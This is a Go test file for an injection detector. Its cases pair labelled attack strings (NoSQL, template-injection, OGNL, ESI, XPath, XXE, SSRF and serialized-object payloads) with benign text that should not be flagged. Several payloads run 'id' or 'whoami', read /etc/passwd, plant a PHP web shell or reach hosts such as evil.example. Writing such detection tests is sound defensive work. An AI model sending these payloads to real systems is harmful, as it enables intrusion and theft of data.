package detect

import (
	"testing"
)

// TestNoSQLObjectKeysAndShellCalls checks the unquoted operator keys of
// the Mongo shell and $where clauses, and chained shell statements.
func TestNoSQLObjectKeysAndShellCalls(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"where as an object key", q("search", "1, $where: '1 == 1'"), "nosql-operator", "nosql-operator"},
		{"operator object unquoted", q("id", "{$gt: ''}"), "nosql-operator", "nosql-operator"},
		// out of the string and the object, any operator is a member of
		// the attacker's, also one that is an everyday word
		{"comment after a breakout", q("id", "' } ], $comment:'successful MongoDB injection'"), "nosql-operator", "nosql-operator"},
		{"comment as a word", body("note", "Totals: {a: 1}, $comment: fine"), "", ""},
		{"shell statements chained", q("id", "db.injection.insert({success:1});return 1;"), "nosql-js", "nosql-js"},
		{"price with a colon", body("note", "Total: $50: paid in full"), "", ""},
		{"db in a sentence", body("note", "Call db.users.find() from the shell to list them"), "", ""},
		{"where function answer fixed", q("id", "0;return true"), "nosql-js", "nosql-js"},
		{"where expression whole", q("id", "this.password.match(/.*/)"), "nosql-js", "nosql-js"},
		{"c code returning an integer", body("doc", "if (fd < 0) { perror(\"open\"); return 1; }"), "", ""},
	})
}

// TestTemplateCalls checks the calls a template expression makes that
// printing a variable never needs.
func TestTemplateCalls(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"twig filter with a callable", q("name", "{{['id',1]|sort('system')|join}}"), "ssti-expression", "ssti-expression"},
		{"twig reduce", q("name", "{{[0]|reduce('system','id')}}"), "ssti-expression", "ssti-expression"},
		{"method on a literal", q("name", "{{'a'.toUpperCase()}}"), "ssti-expression", "ssti-expression"},
		{"chained calls in EL", q("name", `${pageContext.request.getSession().setAttribute("admin",true)}`), "ssti-expression", "ssti-expression"},
		{"class loader", q("name", "${class.getClassLoader()}"), "ssti-expression", "ssti-expression"},
		{"django arithmetic filter", q("name", "ih0vr{{364|add:733}}d121r"), "ssti-expression", "ssti-expression"},
		{"freemarker square directive", q("name", "[#assign ex = 'freemarker.template.utility.Execute'?new()]${ ex('id')}"), "*", "*"},
		{"elixir shell", q("name", `<%= elem(System.shell("id"), 0) %>`), "ssti-expression", "ssti-expression"},
		{"engine polyglot probe", q("name", `${{<%[%'"}}%\.`), "ssti-expression", "ssti-expression"},
		{"two template languages in a doc", body("doc", "Jinja writes {{ x }} and ERB writes <%= x %> for the same thing"), "", ""},
		{"javascript template literal", body("code", "const line = `${items[0].trim().toUpperCase()} items`;"), "", ""},
		{"razor arithmetic", q("name", "@(7*7)"), "ssti-expression", "ssti-expression"},
		{"erb backticks", q("name", "<%= `id` %>"), "ssti-expression", "ssti-expression"},
		{"erb file read", q("name", "<%= File.open('/etc/passwd').read %>"), "*", "*"},
		{"smarty internal class", q("name", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}"), "*", "*"},
		{"e-mail in parentheses", body("note", "write to me (@home) or at work"), "", ""},
		{"printing a variable", body("tpl", "Hello {{ user.name }}, you have {{ count }} messages"), "", ""},
		{"helper on a variable", body("tpl", "{{ items|map(attribute='name')|join(', ') }}"), "", ""},
		{"translation call", body("tpl", "{{ t('welcome.title') }}"), "", ""},
	})
}

// TestTemplateStatementsAndSource checks the expression a statement tag
// evaluates and values that are nothing but template source.
func TestTemplateStatementsAndSource(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"loop over the config's items", q("name", "{% for key, value in config.iteritems() %}"), "ssti-expression", "ssti-expression"},
		{"set from a class walk", q("name", "{% set x = [].__class__ %}"), "ssti-expression", "ssti-expression"},
		{"smarty condition calls a function", q("name", "{if system('id')}{/if}"), "ssti-expression", "ssti-expression"},
		{"smarty arithmetic", q("name", "{7*7}"), "ssti-expression", "ssti-expression"},
		{"a block tag alone", q("name", "{% block body %}"), "ssti-directive", "ssti-directive"},
		{"handlebars block closers", q("name", "{{/with}}"), "ssti-directive", "ssti-directive"},
		{"html around template expressions", q("name", "<dt>{{ key|e }}</dt>"), "ssti-directive", "ssti-directive"},
		{"EL implicit object", q("name", "${applicationScope}"), "ssti-expression", "ssti-expression"},
		{"python special attribute", q("name", "{{ cycler.__dict__ }}"), "ssti-expression", "ssti-expression"},
		{"underscore spelt in hex", q("name", `{{ request['\x5f\x5fclass\x5f\x5f'] }}`), "ssti-expression", "ssti-expression"},
		{"freemarker api built-in", q("name", "${object?api.getClass()}"), "ssti-expression", "ssti-expression"},
		{"function constructor", q("name", `{{range.constructor("return global.process")()}}`), "ssti-expression", "ssti-expression"},
		{"go template dot", q("name", "{{ . }}"), "ssti-expression", "ssti-expression"},
		{"go builtin on a literal", q("name", `{{printf "%s" "ssti" }}`), "ssti-expression", "ssti-expression"},
		{"lodash object", q("name", "<%= _.templateSettings.evaluate %>"), "ssti-expression", "ssti-expression"},
		{"groovy object constructed", q("name", `${ new File("/etc/passwd").text }`), "ssti-expression", "ssti-expression"},
		{"member of an empty list", q("name", "{{ [].class.base.subclasses() }}"), "ssti-expression", "ssti-expression"},
		{"razor implicit expression", q("name", `@System.Diagnostics.Process.Start("cmd.exe","/c whoami");`), "ssti-expression", "ssti-expression"},
		{"e-mail address with a dotted domain", body("note", "mail ops@system.example.com about the runtime"), "", ""},
		{"javascript call result member", body("code", "const port = `${program.opts().port}`;"), "", ""},
		{"go template field", body("tpl", "Title: {{ .Title }}"), "", ""},
		{"loop over a variable", body("tpl", "{% for item in items %}{{ item }}{% endfor %} lists them"), "", ""},
		{"template named in a sentence", body("doc", "Jinja docs: {% for item in items %}{{ item }}{% endfor %}"), "", ""},
		{"a placeholder alone", q("name", "{{name}}"), "", ""},
		{"two placeholders", q("fmt", "{{firstName}} {{lastName}}"), "", ""},
		{"e-mail template with text", body("tpl", "<p>Hello {{ name }}</p>"), "", ""},
		{"a javascript object with a product", body("code", "{ width: 2 * 3 }"), "", ""},
	})
}

// TestEdgeSideIncludes checks ESI elements beside SSI directives.
func TestEdgeSideIncludes(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"esi include", q("search", `<esi:include src="http://host/poc.xml" dca="xslt" stylesheet="http://google.com/poc.xsl" />`), "ssi-directive", "ssi-directive"},
		{"esi debug", q("search", "<esi:debug/>"), "ssi-directive", "ssi-directive"},
		{"xml namespace with esi in its name", body("xml", "<desi:note>hello</desi:note>"), "", ""},
	})
}

// TestYAMLLanguageTags checks YAML tags that instantiate Python and Ruby
// objects.
func TestYAMLLanguageTags(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"python tuple tag", body("yaml", "state: !!python/tuple"), "*", "*"},
		{"ruby module tag", body("yaml", "socket: !ruby/module 'Kernel'"), "*", "*"},
		{"plain yaml", body("yaml", "state: !!str tuple"), "", ""},
	})
}

// TestInjectedStatements checks a call spliced into evaluated code after a
// breakout.
func TestInjectedStatements(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"statement then hash comment", q("host", "a;exit(md5('w4p1t1_md5'));#"), "*", "*"},
		{"quote, statement, line comment", q("host", `";exit(md5('w4p1t1_md5'));//`), "*", "*"},
		{"string join", body("t", "'.exit(md5('w4p1t1_md5'));//"), "*", "*"},
		{"sentence with a call", body("note", "Done; see chapter(5) tomorrow, thanks"), "", ""},
		{"sentence with a dot", body("note", "Thanks.Call(me);"), "", ""},
	})
}

// TestXPathPathArguments checks node functions over absolute location
// paths, and a URL whose authority a lenient parser misreads.
func TestXPathPathArguments(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"blind substring", q("search", "substring(//user[userid=5]/username,2,1)=codepoints-to-string(65)"), "xpath-injection", "xpath-injection"},
		{"count of the root", q("search", "count(/child::node())"), "xpath-injection", "xpath-injection"},
		{"a path in parentheses", body("note", "see the docs (/usr/share/doc) and count(items)"), "", ""},
		{"URL with a port and junk before a backslash", body("webhookUrl", `http://127.1.1.1:80:\@@127.2.2.2:80/`), "*", "*"},
	})
}

// TestOGNLWithoutDelimiters: Struts evaluates OGNL in parameter names,
// values and headers, with or without %{...}.
func TestOGNLWithoutDelimiters(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"context index", q("x", "(#context['xwork.MethodAccessor.denyMethodExecution']=false)"), "ssti-expression", "ssti-expression"},
		{"scratch variable in a content type", hdr("content-type", "%{(#_='multipart/form-data')}"), "ssti-expression", "ssti-expression"},
		{"static call", q("x", "%{@java.lang.Runtime@getRuntime().exec('id')}"), "ssti-expression", "ssti-expression"},
		{"hashtags", body("comment", "#context matters (#context is everything)"), "", ""},
		{"anchor", body("comment", "see the docs (#request-handling) for details"), "", ""},
		{"decorator", body("snippet", "@app.route('/x')"), "", ""},
	})
}

// TestLambdaLocalEndpoints: the function's own Runtime API and the
// Parameters and Secrets extension, by any loopback name, in any
// parameter; other loopback URLs only where the application fetches.
func TestLambdaLocalEndpoints(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"runtime api by name", q("q", "http://localhost:9001/2018-06-01/runtime/invocation/next"), "ssrf-internal", "ssrf-internal"},
		{"secrets extension", body("note", "http://localhost:2773/secretsmanager/get?secretId=prod/db"), "ssrf-internal", "ssrf-internal"},
		{"a local dev server in prose", body("note", "Run the server and open http://localhost:3000/ in a browser"), "", ""},
		{"a local dev server as a whole value", q("q", "http://localhost:8080/admin"), "", ""},
		{"where the application fetches", q("url", "http://localhost:8080/admin"), "ssrf-internal", "ssrf-internal"},
	})
}

// TestSerializedStreamsBehindDecoys: a magic inside an earlier token, or
// after "key=", does not hide the stream that follows.
func TestSerializedStreamsBehindDecoys(t *testing.T) {
	const java = "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAAAeA=="
	const pickle = "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="
	runLevelCases(t, []levelCase{
		{"java after a decoy", body("v", "xrO0AB "+java), "java-serialized-object", "java-serialized-object"},
		{"java after key=", body("v", "data="+java), "java-serialized-object", "java-serialized-object"},
		{"pickle after a decoy", body("v", "xgASV "+pickle), "python-pickle", "python-pickle"},
	})
}

// TestKeywordsBehindDecoys: a keyword reading looks at every occurrence
// of its words; one that is rejected (inside a longer word, without what
// must follow it) no longer hides a later one that counts.
func TestKeywordsBehindDecoys(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"php superglobal", q("q", "x$_getx then $_GET['cmd']"), "php-superglobal", "php-superglobal"},
		{"sql system variable", q("q", "a@@versionx or @@version"), "*", "*"},
		{"xpath fetcher", q("q", "doc.doc('x') then doc('http://evil/x')"), "xpath-injection", "xpath-injection"},
		{"hex java stream", body("v", "xaced0005 payload: aced00057372001b;"), "java-serialized-object", "java-serialized-object"},
		{"object constructed in a template", body("v", "${renew + new File(\"/etc/passwd\").text}"), "*", "*"},
		{"operator key after a dollar key", q("user[$x][$ne]", "1"), "nosql-operator", "nosql-operator"},
		{"external DTD after an HTML one", body("v", "<!DOCTYPE html><!DOCTYPE x SYSTEM \"http://evil.example/x.dtd\"><x>&a;</x>"), "*", "*"},
	})
}
